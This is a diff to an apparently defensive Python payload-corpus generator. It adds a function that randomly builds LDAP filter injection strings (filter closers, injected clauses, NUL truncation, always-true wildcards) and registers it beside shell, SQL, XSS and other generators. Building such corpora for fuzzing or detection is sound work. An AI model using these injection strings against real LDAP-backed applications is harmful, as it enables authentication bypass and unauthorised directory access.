@@ -1558,11 +1558,49 @@ def gen_xss_evasion(rng: random.Random, n: int) -> list[Payload]:
 # ---------------------------------------------------------------------------------------- all
 
 # base counts at scale 1.0 (distinct texts per generator)
+
+# ------------------------------------------------------------------------------ LDAP filter breaking
+_LDAP_ATTRS = ["uid", "cn", "sn", "mail", "objectClass", "userPassword", "memberOf", "ou", "givenName",
+               "sAMAccountName", "description", "telephoneNumber", "homeDirectory", "member", "dn"]
+_LDAP_WORDS = ["admin", "jdoe", "guest", "x", "test", "root", "service", "probe", "alice", "nobody"]
+
+
+def gen_ldap_breakout(rng: random.Random, n: int) -> list[Payload]:
+    """LDAP filter injection that closes the application's filter and cuts the rest: closers
+    (`)`, `))`, `*)`, `)(`) after an optional value, an optional injected clause, then NUL
+    truncation (raw or %00) and the junk the server ignores after it; and wildcard/always-true
+    clauses (`(|(x=*))`, `(&)`, `(objectClass=*)`)."""
+    out, seen = [], set()
+    fams = ["closer-nul", "closer-clause", "always-true", "wildcard"]
+    tries = 0
+    while len(out) < n and tries < n * 20:
+        tries += 1
+        fam = fams[len(out) % len(fams)]
+        a, b = rng.choice(_LDAP_ATTRS), rng.choice(_LDAP_ATTRS)
+        word = rng.choice(_LDAP_WORDS + [""])
+        nul = rng.choice(["\x00", "%00", "\x00", "%2500"])
+        junk = rng.choice(["", rng.choice(_LDAP_WORDS), "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 12)))])
+        if fam == "closer-nul":
+            s = word + rng.choice([")", "))", "*)", "*))", ")))", ")(", "*)("]) + rng.choice(["", f"{a}=*)", f"&)", f"|({a}=*)"]) + nul + junk
+        elif fam == "closer-clause":
+            s = word + rng.choice([")(", "*)(", "))(", ")(|(", ")(&("]) + f"{a}=" + rng.choice(["*", "*)", word or "*", "*" + (word or "a") + "*"]) + rng.choice(["", ")", "))", ")(" + b + "=*"])
+        elif fam == "always-true":
+            s = rng.choice(["", word]) + rng.choice([f")(|({a}=*))", ")(&)", f")(objectClass=*))", f"*)(|({a}=*)({b}=*))", f"))(|({a}=*"]) + rng.choice(["", nul + junk])
+        else:
+            s = rng.choice(["(*", "*(", "(*" + (word or "a") + "*", "**" + (word or "a") + "**("]) + rng.choice(["", ")", "))"]) + rng.choice(["", nul + junk])
+        s = s.replace("\\x00", "\x00")
+        if s in seen:
+            continue
+        seen.add(s)
+        out.append(Payload("ldap", s, "gen", f"ldap:{fam}"))
+    return out
+
 _BASE = [
     ("shell", gen_shell, 1500), ("windows", gen_windows, 900), ("php", gen_php, 1200), ("java", gen_java, 1400),
     ("prototype_pollution", gen_prototype_pollution, 900), ("node_rce", gen_node_rce, 600), ("js_obfuscation", gen_js_obfuscation, 900),
     ("sql_dialects", gen_sql_dialects, 1500), ("sql_tamper", gen_sql_tamper, 1500), ("lfi", gen_lfi, 1500),
     ("open_redirect", gen_open_redirect, 1500), ("ssi_esi", gen_ssi_esi, 700), ("xss_evasion", gen_xss_evasion, 1200),
+    ("ldap_breakout", gen_ldap_breakout, 1500),
 ]
 
 
